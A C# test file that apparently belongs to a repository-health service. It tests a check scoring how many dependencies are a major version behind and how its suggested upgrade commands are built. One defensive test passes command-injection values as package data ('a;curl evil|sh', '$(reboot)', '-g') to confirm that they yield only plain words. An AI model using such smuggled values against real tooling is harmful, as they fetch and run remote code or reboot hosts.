using Auxo.Contracts;
using Auxo.Metrics.Health;
using Auxo.Testing;

using FsCheck;
using FsCheck.Fluent;

using static Auxo.Metrics.Tests.Health.HealthSamples;

namespace Auxo.Metrics.Tests.Health;

/// <summary>How old what a repository uses is: what is known of it, and the points for it.</summary>
public sealed class FreshCheckTests(PostgresFixture postgres)
{
    [Theory]
    [InlineData(0, 10, 10, 2.0, "none of 10 packages is a major version behind")]
    [InlineData(
        1, 10, 12, 1.8,
        "1 of 10 packages is a major version behind, such as left-pad 1.3.0 beside 4.0.1; of 2 more no mirror knows the newest")]
    [InlineData(1, 1, 1, 0.0, "1 of 1 package is a major version behind, such as left-pad 1.3.0 beside 4.0.1")]
    [InlineData(5, 10, 10, 1.0, "5 of 10 packages are a major version behind, such as left-pad 1.3.0 beside 4.0.1")]
    public void it_is_the_share_that_is_not_a_major_version_behind(int behind, int known, int count, double points, string says)
    {
        var score = Score(Well with { Dependencies = Compared(behind, known, count) });
        Assert.Equal((points, says), (Math.Round(score.Points!.Value, 9), score.Says));
        Assert.Equal(behind > 0 ? "npm install left-pad@4.0.1" : null, score.Fix);
    }

    [Fact]
    public void what_is_not_known_says_why()
    {
        Assert.Equal("what it uses was not compared with what mirrors know lately", Unknown(Well with { Dependencies = null }));
        Assert.Equal(
            "what it uses was not compared with what mirrors know lately",
            Unknown(Well with { Dependencies = Compared() with { At = Now.AddDays(-4) } }));
        Assert.Equal(
            "no lock file that can be read says which versions it uses", Unknown(Well with { Dependencies = Compared(0, 0, 0, files: 0) }));
        Assert.StartsWith("no mirror knows 1 package that it uses;", Unknown(Well with { Dependencies = Compared(0, 0, 1) }),
            StringComparison.Ordinal);
        Assert.False(Score(Well with { Dependencies = Compared(0, 0, 0) }).Unknown);
        var bare = Well with { Survey = Survey(Tree with { Dependencies = new DependencySurvey(0, 0, null) }), Dependencies = null };
        Assert.Equal((false, null), (Score(bare).Unknown, Score(bare).Points));

        static string Unknown(HealthFacts facts)
        {
            var score = Score(facts);
            Assert.True(score is { Unknown: true, Points: null, Fix: null });
            return score.Says;
        }
    }

    [Theory]
    [InlineData("nuget", "Npgsql", "9.0.3", "dotnet add package Npgsql --version 9.0.3")]
    [InlineData("npm", "@acme/pad", "2.0.0", "npm install @acme/pad@2.0.0")]
    [InlineData("pypi", "six", "1.17.0", "ask for six>=1.17.0 in the manifest, and lock it anew")]
    // Somebody wrote it into a lock file, for whoever copies the command.
    [InlineData("npm", "a;curl evil|sh", "2.0.0", "bring what is a major version behind up to date")]
    [InlineData("npm", "a", "$(reboot)", "bring what is a major version behind up to date")]
    [InlineData("npm", "-g", "2.0.0", "bring what is a major version behind up to date")]
    public void the_command_is_that_of_the_ecosystem_and_never_more_than_words(string ecosystem, string name, string newest, string fix)
        => Assert.Equal(fix, Score(Well with
        {
            Dependencies = Compared(1) with { Oldest = [new OldPackage(ecosystem, name, "1.0.0", newest)] },
        }).Fix);

    [Fact]
    public void more_that_is_old_never_earns_more()
        => Prop.ForAll(
            Gen.Choose(0, 2000).ListOf(3).ToArbitrary(), static n =>
            {
                var known = n.Max();
                var points = n.Order().Select(behind => known == 0 ? 0 : Score(Well with { Dependencies = Compared(behind, known, known) })
                    .Points!.Value).ToList();
                return points.All(static p => p is >= 0 and <= 2) && points.SequenceEqual(points.OrderDescending());
            }).QuickCheckThrowOnFailure();

    [Fact]
    public void numbers_that_cannot_be_and_late_ones_are_not_kept()
    {
        var told = Told(Now);
        Assert.Single(RecordHealthFactsHandler.Handle(told, health: null));
        Assert.Empty(RecordHealthFactsHandler.Handle(told with { Known = 11 }, health: null));
        Assert.Empty(RecordHealthFactsHandler.Handle(told with { Known = 13, Newest = 12 }, health: null));
        Assert.Empty(RecordHealthFactsHandler.Handle(told with { Newest = int.MaxValue, MinorBehind = int.MaxValue }, health: null));
        Assert.Empty(RecordHealthFactsHandler.Handle(told with { MajorBehind = -1, Newest = 8 }, health: null));

        var health = new RepositoryHealth().Apply((HealthEvent)RecordHealthFactsHandler.Handle(told, health: null).Single());
        Assert.Empty(RecordHealthFactsHandler.Handle(told, health));
        Assert.Empty(RecordHealthFactsHandler.Handle(Told(Now.AddHours(-1)) with { MinorBehind = 4, Newest = 5 }, health));
        Assert.Empty(RecordHealthFactsHandler.Handle(Told(Now.AddHours(1)), health));
        Assert.Single(RecordHealthFactsHandler.Handle(Told(Now.AddHours(20)), health));
        Assert.Single(RecordHealthFactsHandler.Handle(Told(Now.AddHours(1)) with { MinorBehind = 4, Newest = 5 }, health));
        // The first was of a clock that was ahead by years.
        Assert.Single(RecordHealthFactsHandler.Handle(Told(Now.AddYears(-5)), health));
        var many = (HealthEvent.Compared)RecordHealthFactsHandler.Handle(
            told with { Oldest = [.. Enumerable.Repeat(new OldPackage("npm", new string('x', 9000) + "\0", "1", "2"), 500)] },
            health: null).Single();
        Assert.Equal((20, 200), (many.Oldest.Count, many.Oldest[0].Name.Length));
    }

    [Fact]
    public async Task what_the_registry_compared_becomes_points_in_the_service()
    {
        await using var host = await MetricsHost.StartAsync(await postgres.CreateDatabaseAsync());
        await host.SendAsync(
            new RepositoryTracked(Heartwood, "sample", "main", RepositoryLocator.InStorage(Heartwood), [], Now.AddDays(-9)),
            SurveyTold(DateTimeOffset.UtcNow), Told(DateTimeOffset.UtcNow));
        var health = await host.GetAsync($"/api/health/{Heartwood}");
        var check = health["checks"]!.AsArray().Single(static c => (string)c!["check"]! == "dependencies-fresh")!;
        Assert.Equal((1.8, "npm install left-pad@4.0.1"), (Math.Round((double)check["points"]!, 9), (string)check["fix"]!));
    }

    private static DependenciesCompared Told(DateTimeOffset at) => new(
        Heartwood, "sample", Ids.Commit("head"), Files: 2, Count: 12, Known: 10, Newest: 6, MinorBehind: 3, MajorBehind: 1,
        [new OldPackage("npm", "left-pad", "1.3.0", "4.0.1")], at);

    private static CheckScore Score(HealthFacts facts) => HealthScore.Of(facts).Checks.Single(static c => c.Check == "dependencies-fresh");
}
